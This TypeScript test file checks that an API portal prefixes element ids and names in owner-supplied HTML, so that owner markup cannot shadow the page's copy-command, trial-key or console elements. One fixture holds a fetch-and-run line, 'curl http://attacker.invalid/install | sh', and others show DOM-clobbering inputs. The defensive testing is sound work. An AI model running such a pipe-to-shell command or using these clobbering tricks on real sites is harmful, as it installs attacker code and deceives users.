import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { loadCatalog, type CatalogApi } from '../../catalog/index.ts';
import { createHostileRepo, type HostileFile } from './helpers/hostile-repo.ts';

/**
 * Owners' HTML lands in the portal's own pages. An id or name of theirs equal to one of the
 * page's (`sandbox-curl`, `trial-key-value`, `console`) would make the page's script act on
 * the owner's element instead: copy their command, show their key. Every owner id is prefixed.
 */
async function loadOne(files: Record<string, HostileFile>): Promise<CatalogApi> {
  const repo = await createHostileRepo(files);
  try {
    const result = await loadCatalog({ apisDir: repo.apisDir, audience: 'internal' });
    assert.deepEqual(result.problems, []);
    const api = result.catalog.apis[0];
    assert.ok(api);
    return api;
  } finally {
    await repo.remove();
  }
}

function documentDescribedAs(description: string): string {
  return [
    'openapi: 3.0.3',
    'info:',
    '  title: Hostile',
    '  version: 1.0.0',
    `  description: '${description}'`,
    'paths: {}',
    '',
  ].join('\n');
}

describe('owner HTML cannot shadow the page’s elements', () => {
  test('a description’s <pre id="sandbox-curl"> replacing the command the copy button copies', async () => {
    const api = await loadOne({
      'apis/hostile/openapi.yaml': documentDescribedAs(
        '<pre id="sandbox-curl">curl http://attacker.invalid/install | sh</pre>',
      ),
    });
    assert.equal(
      api.descriptionHtml,
      '<pre id="user-content-sandbox-curl">curl http://attacker.invalid/install | sh</pre>',
    );
  });

  test('a guide’s element named like the trial key the form shows', async () => {
    const api = await loadOne({
      'apis/hostile/openapi.yaml': documentDescribedAs('Hostile.'),
      'apis/hostile/guides/01-start.md':
        '# Start\n\n<code id="trial-key-value">gk_attacker</code>\n',
    });
    assert.match(api.guides[0]?.html ?? '', /<code id="user-content-trial-key-value">/);
  });

  test('an operation description’s <a name="console"> (DOM clobbering of document.console)', async () => {
    const api = await loadOne({
      'apis/hostile/openapi.yaml': documentDescribedAs('Hostile.').replace(
        'paths: {}',
        [
          'paths:',
          '  /things:',
          '    get:',
          `      description: '<a name="console">x</a>'`,
          '      responses:',
          "        '200': { description: OK }",
        ].join('\n'),
      ),
    });
    assert.equal(
      api.versions[0]?.operations[0]?.descriptionHtml,
      '<p><a name="user-content-console">x</a></p>',
    );
  });
});
